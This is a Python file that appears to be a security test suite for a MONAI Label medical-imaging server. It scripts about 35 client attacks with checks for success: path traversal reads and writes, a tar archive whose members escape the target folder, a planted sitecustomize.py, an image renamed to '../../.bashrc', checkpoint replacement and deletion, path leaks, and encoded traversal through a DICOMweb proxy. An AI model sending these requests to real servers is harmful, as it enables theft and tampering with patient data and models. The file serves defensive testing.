"""Attacks on a MONAI Label server, as a client makes them: one or a few requests, and how one sees that it worked."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nibabel
import numpy as np
import requests

from support.bare_app import CHECKPOINT
from support.server_process import REPOSITORY, Server

PLANTED = b"planted by a client"
IMAGE = gzip.compress(nibabel.Nifti1Image(np.zeros((4, 4, 4), np.int16), np.eye(4)).to_bytes())
"""What a client may well send."""


@dataclass
class Target:
    """A server with ``ball`` in its datastore, and what lies beside the datastore on its machine.

    Args:
        server: The server.
        folder: Everything of the server's but its app and its log.
        secret: A NIfTI file in ``folder`` that no client is meant to read.
    """

    server: Server
    folder: Path
    secret: Path

    def send(self, method: str, path: str, **kwargs) -> requests.Response:
        """The path goes out as it is written here, dots and all."""
        with requests.Session() as session:
            prepared = session.prepare_request(requests.Request(method, self.server.url, **kwargs))
            prepared.url = self.server.url + path
            return session.send(prepared, timeout=120)

    def tells_paths(self, answer: requests.Response) -> bool:
        """Whether an answer, headers included, has a path of the server's in it that the client did not know."""
        told = (answer.text + str(answer.headers)).replace(str(self.secret), "")
        return any(str(path) in told for path in (self.folder, REPOSITORY, "/site-packages/", "Traceback"))


@dataclass(frozen=True)
class Attack:
    """One attack.

    Args:
        name: What the client is after.
        send: Makes the requests; the last answer.
        worked: Whether it got it.
        is_refused: Whether nothing is left of the route for this client, so that a 4xx is due. Otherwise the route
            keeps answering, without what it told.
    """

    name: str
    send: Callable[[Target], requests.Response]
    worked: Callable[[Target, requests.Response], bool]
    is_refused: bool = True


def _got_secret(target: Target, answer: requests.Response) -> bool:
    return target.secret.read_bytes() in answer.content


def _told_path(target: Target, answer: requests.Response) -> bool:
    return target.tells_paths(answer)


def _wrote(path: str) -> Callable[[Target, requests.Response], bool]:
    """Whether there is a file now, by its path from the server's folder."""
    return lambda target, _: (target.folder / path).exists()


def _infer(query: str, params: dict | None = None) -> Callable[[Target], requests.Response]:
    """``{secret}`` in the query and in the values of ``params`` is its path."""

    def send(target: Target) -> requests.Response:
        filled = {key: value.format(secret=target.secret) for key, value in (params or {}).items()}
        path = f"/infer/sam_tiny?{query.format(secret=target.secret)}&output=image"
        return target.send("POST", path, data={"params": json.dumps(filled)})

    return send


def _infer_planted_session(target: Target) -> requests.Response:
    """A session of two files, one of which is the description of another session: that of the folder they are in."""
    description = {"name": "x", "path": "x", "image": str(target.secret), "expiry": 3600, "create_ts": 1}
    files = [("files", ("meta.info", json.dumps(description))), ("files", ("a.nii.gz", IMAGE))]
    created = target.send("PUT", "/session/", files=files).json()
    inner = Path(created["session_info"]["image"]).name
    path = f"/infer/sam_tiny?session_id={created['session_id']}/{inner}&output=image"
    return target.send("POST", path, data={"params": "{}"})


def _put_image(query: str, filename: str, route: str = "/datastore/image") -> Callable[[Target], requests.Response]:
    return lambda target: target.send("PUT", f"{route}?{query}", files={"file": (filename, PLANTED)})


def _put_label(tag: str, filename: str) -> Callable[[Target], requests.Response]:
    return lambda target: target.send(
        "PUT", f"/datastore/label?image=ball&tag={tag}", files={"label": (filename, PLANTED)}
    )


def _delete_planted(target: Target) -> requests.Response:
    """Delete what one has no right to, after having the datastore take it for its own."""
    victim = target.folder / "victim.nii.gz"
    victim.write_bytes(b"not the client's")
    _put_image("image=../victim", "a.nii.gz")(target)
    return target.send("DELETE", "/datastore/image?id=../victim")


def _batch(target: Target) -> requests.Response:
    body = {"images": ["ball"], "label_tag": "../../batch", "multi_gpu": False}
    return target.send("POST", "/batch/infer/sam_tiny?run_sync=true", json=body)


def _batch_path(target: Target) -> requests.Response:
    body = {"images": [str(target.secret)], "multi_gpu": False}
    return target.send("POST", "/batch/infer/sam_tiny?run_sync=true", json=body)


def _train_list(target: Target) -> requests.Response:
    target.send("PUT", "/datastore/label?image=ball&tag=final", files={"label": ("l.nii.gz", IMAGE)})
    answer = target.send("GET", "/datastore/?output=train")
    target.send("DELETE", "/datastore/label?id=ball&tag=final")
    return answer


def _background(route: str) -> Callable[[Target], requests.Response]:
    """Start a task that does not exist, which is a process of its own, and read what it says when it fails."""

    def send(target: Target) -> requests.Response:
        answer = target.send("POST", f"/{route}/none", json={})
        deadline = time.monotonic() + 90
        while answer.ok and not target.tells_paths(answer) and time.monotonic() < deadline:
            time.sleep(0.5)
            answer = target.send("GET", f"/{route}/?all=true")
        return answer

    return send


def _new_session(target: Target) -> requests.Response:
    return target.send("PUT", "/session/", files={"files": ("a.nii.gz", IMAGE)})


def _get_session(target: Target) -> requests.Response:
    return target.send("GET", f"/session/{_new_session(target).json()['session_id']}")


def _delete_session(target: Target) -> requests.Response:
    return target.send("DELETE", f"/session/{_new_session(target).json()['session_id']}")


def _unpack(target: Target) -> requests.Response:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        member = tarfile.TarInfo(f"{'../' * 12}{target.folder}/unpacked".replace("//", "/"))
        member.size = len(PLANTED)
        tar.addfile(member, io.BytesIO(PLANTED))
    return target.send("PUT", "/session/?uncompress=true", files={"files": ("a.tar", archive.getvalue())})


def _wsi(route: str, kwargs: dict) -> Callable[[Target], requests.Response]:
    return lambda target: target.send("POST", f"/infer/{route}/sam_tiny?image={target.secret}", **kwargs)


def _rename_for_others(target: Target) -> requests.Response:
    """What the datastore calls an image is the name under which 3D Slicer stores it, on another user's machine."""
    return target.send("PUT", "/datastore/image/info?image=ball", data={"info": '{"name": "../../.bashrc"}'})


def _is_renamed(target: Target, _: requests.Response) -> bool:
    return "/" in target.send("GET", "/datastore/image/info?image=ball").json()["name"]


def _next_sample(target: Target) -> requests.Response:
    """With an image that nobody has labelled, whatever the attacks before did to the others."""
    files = {"file": ("unlabelled.nii.gz", target.secret.read_bytes())}
    target.send("PUT", "/datastore/?image=unlabelled", files=files).raise_for_status()
    return target.send("POST", "/activelearning/random")


ATTACKS = [
    Attack("infer reads a path", _infer("image={secret}"), _got_secret),
    Attack("infer reads a path in params", _infer("image=x", {"image": "{secret}"}), _got_secret),
    Attack("infer reads what a client's session says", _infer_planted_session, _got_secret),
    Attack("wsi reads a path", _wsi("wsi", {"json": {"level": 0}}), _got_secret),
    Attack("wsi_v2 reads a path", _wsi("wsi_v2", {"data": {"wsi": "{}"}}), _got_secret),
    Attack("image id writes outside", _put_image("image=../by-id", "a.nii.gz"), _wrote("by-id.nii.gz")),
    Attack("old route writes outside", _put_image("image=../by-old", "a.nii", "/datastore/"), _wrote("by-old.nii")),
    Attack("program among the images", _put_image("image=sitecustomize", "a.py"), _wrote("studies/sitecustomize.py")),
    Attack("tag writes outside", _put_label("../../by-tag", "a.nii.gz"), _wrote("by-tag/ball.nii.gz")),
    Attack("program as a label", _put_label("../../by-type", "a.py"), _wrote("by-type/ball.py")),
    Attack(
        "delete outside",
        _delete_planted,
        lambda target, _: not (target.folder / "victim.nii.gz").exists(),
    ),
    Attack("image is renamed for others", _rename_for_others, _is_renamed),
    Attack("batch writes outside", _batch, _wrote("batch/ball.nii.gz")),
    Attack("batch takes a path", _batch_path, lambda _, answer: answer.ok),
    Attack("archive writes outside", _unpack, _wrote("unpacked")),
    Attack("download a checkpoint", lambda t: t.send("GET", "/model/sam_tiny"), lambda _, a: a.content == CHECKPOINT),
    Attack("checksum of a checkpoint", lambda t: t.send("GET", "/model/info/sam_tiny"), lambda _, a: a.ok),
    Attack(
        "replace a checkpoint",
        lambda target: target.send("PUT", "/model/sam_tiny", files={"file": ("a.pt", PLANTED)}),
        lambda _, answer: answer.ok,
    ),
    Attack("delete a checkpoint", lambda target: target.send("DELETE", "/model/sam_tiny"), lambda _, a: a.ok),
    Attack("list for training tells paths", _train_list, _told_path),
    Attack("training starts processes", _background("train"), _told_path),
    Attack("scoring starts processes", _background("scoring"), _told_path),
    Attack("logs tell paths", lambda t: t.send("GET", "/logs/?text=true&lines=1000"), _told_path),
    Attack("next sample tells a path", _next_sample, _told_path, False),
    Attack("image info tells a path", lambda t: t.send("GET", "/datastore/image/info?image=ball"), _told_path, False),
    Attack("new session tells paths", _new_session, _told_path, False),
    Attack("session tells paths", _get_session, _told_path, False),
    Attack("removed session tells paths", _delete_session, _told_path, False),
    Attack("app is loaded anew", lambda target: target.send("POST", "/reload"), lambda _, answer: answer.ok),
]
"""In this order: the last ones change the server that falls to them."""


def _proxy(method: str, path: str, **kwargs) -> Callable[[Target], requests.Response]:
    return lambda target: target.send(method, f"/proxy/dicom/{path}", **kwargs)


def _is_orthancs_own(_: Target, answer: requests.Response) -> bool:
    return answer.ok and "ApiVersion" in answer.text


DICOMWEB_ATTACKS = [
    Attack("proxy leaves DICOMweb", _proxy("GET", "%2e%2e/system"), _is_orthancs_own),
    Attack("proxy of a service leaves DICOMweb", _proxy("GET", "qido/studies/..%2F..%2F..%2Fsystem"), _is_orthancs_own),
    Attack(
        "proxy posts to what administers",
        _proxy("POST", "..%2Ftools%2Ffind", data='{"Level": "Study", "Query": {}}'),
        lambda _, answer: answer.ok,
    ),
    Attack("proxy tells other servers", _proxy("GET", "servers"), lambda _, answer: answer.ok),
    Attack(
        "image id reads outside",
        lambda target: target.send("GET", "/datastore/image?image=../../secret"),
        _got_secret,
    ),
    Attack("infer reads outside", _infer("image=../../secret"), _got_secret),
]
"""On a server whose images are on Orthanc; beside the secret there is a folder of its name."""
